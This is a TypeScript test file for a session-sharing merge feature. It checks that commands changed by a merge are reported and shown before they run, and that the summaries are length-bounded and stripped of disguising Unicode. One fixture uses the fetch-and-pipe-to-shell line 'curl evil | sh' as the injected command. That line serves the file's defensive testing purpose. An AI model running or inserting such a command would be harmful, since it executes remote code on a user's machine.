import { expect, test } from "vitest";
import { describeExchange } from "../../../../src/model/sharing/exchangeText.ts";
import { findMergeChanges, joinChanges } from "../../../../src/model/sharing/mergeChanges.ts";
import type { Exchanged } from "../../../../src/model/sharing/sharing.ts";
import { startSession } from "../../../support/sessions/sessionBuilder.ts";

const nothing: Exchanged = {
  isSent: false,
  renumbered: [],
  removed: [],
  added: [],
  commands: [],
  states: [],
};
const never = () => false;

test("nothing is said of a merge that changed nothing", () => {
  expect(describeExchange(nothing, never)).toEqual([]);
});

test("what a merge changed is listed: commands, and sessions that came, went, were closed or reopened", () => {
  const mine = startSession({ title: "orders", isolationCommand: "npm test", verificationCommand: "make" });
  const before = mine.session();
  mine.write("isolationCommand", "curl evil | sh");
  mine.add({ kind: "sessionClosed", state: "abandoned" });
  const came = { ...startSession({ title: "", isolationCommand: "npm run x" }).session(), id: "s2" };
  const changes = findMergeChanges([before, { ...before, id: "s3" }], [mine.session(), came]);
  expect(changes).toEqual({
    removed: ["orders"],
    added: [""],
    commands: [
      { title: "orders", purpose: "isolation", was: "npm test", now: "curl evil | sh" },
      { title: "", purpose: "isolation", was: undefined, now: "npm run x" },
    ],
    states: [{ title: "orders", state: "abandoned" }],
  });
  expect(describeExchange({ ...nothing, ...changes }, never)).toEqual([
    "The isolation command of “orders” is now “curl evil | sh”; it was “npm test”.",
    "A command that came with it is shown to you before it runs.",
    "New here: “Session without a title”.",
    "Abandoned in the other copy: “orders”.",
    "Deleted here too, because they were deleted in the other copy: “orders”.",
  ]);
  expect(joinChanges(changes, changes).added).toEqual(["", ""]);
});

test("a command that the user agreed to before is not said to be shown again", () => {
  const commands = [{ title: "t", purpose: "verification", was: "a", now: "b" }] as const;
  expect(describeExchange({ ...nothing, commands }, (command) => command === "b")).toEqual([
    "The verification command of “t” is now “b”; it was “a”.",
  ]);
});

test("what is said is bounded, and nothing in it is disguised", () => {
  const one = { title: "\u202et".repeat(50), purpose: "isolation", was: "", now: "x".repeat(5000) } as const;
  const titles = Array.from({ length: 500 }, (_, index) => `${index}`);
  const text = describeExchange(
    { ...nothing, commands: Array(40).fill(one), added: titles, removed: titles },
    never,
  ).join(" ");
  expect(text.length).toBeLessThan(1500);
  expect(text).not.toMatch(/\p{Cf}/u);
  expect(text).toContain("37 more commands were changed.");
  expect(text).toContain("“0”, “1”, “2” and 497 more");
});
